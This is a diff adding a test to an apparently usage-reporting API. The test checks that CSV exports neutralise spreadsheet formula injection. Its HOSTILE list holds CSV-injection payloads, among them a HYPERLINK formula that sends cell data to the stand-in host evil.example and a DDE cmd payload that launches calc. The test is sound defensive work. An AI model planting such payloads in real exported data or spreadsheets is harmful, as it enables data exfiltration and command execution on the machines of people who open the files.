@@ -265,3 +265,39 @@ async def test_store_down_is_503(own_redis_server: RedisServer) -> None:
     finally:
         await api.stop()
         await backend.close()
+
+
+# Cells a spreadsheet would run as formulas (OWASP CSV injection), as user ids and model names.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def first_column(text: str) -> list[str]:
+    return [row[0] for row in csv.reader(io.StringIO(text))][1:]
+
+
+async def test_csv_cells_never_start_a_formula(
+    store: CounterStore, client: httpx.AsyncClient
+) -> None:
+    now_ms = time.time_ns() // 1_000_000
+    for name in HOSTILE:
+        await store.settle([], entry(name, TODAY, "opt", 1, 1), now_ms)
+        await store.settle([], entry("alice", TODAY, name, 1, 1), now_ms)
+    users = await client.get("/v1/usage/users", params={"format": "csv"}, headers=as_(ADMIN_KEY))
+    models = await client.get(
+        "/v1/usage", params={"format": "csv", "group_by": "model"}, headers=ALICE
+    )
+    assert sorted(first_column(users.text)) == sorted(
+        ["alice", "bob", *("'" + name for name in HOSTILE)]
+    )
+    assert sorted(first_column(models.text)) == sorted(
+        ["llama", "opt", *("'" + name for name in HOSTILE)]
+    )
+    document = (await client.get("/v1/usage/users", headers=as_(ADMIN_KEY))).json()
+    assert {row["user"] for row in document["rows"]} >= set(HOSTILE)  # JSON keeps them as they are
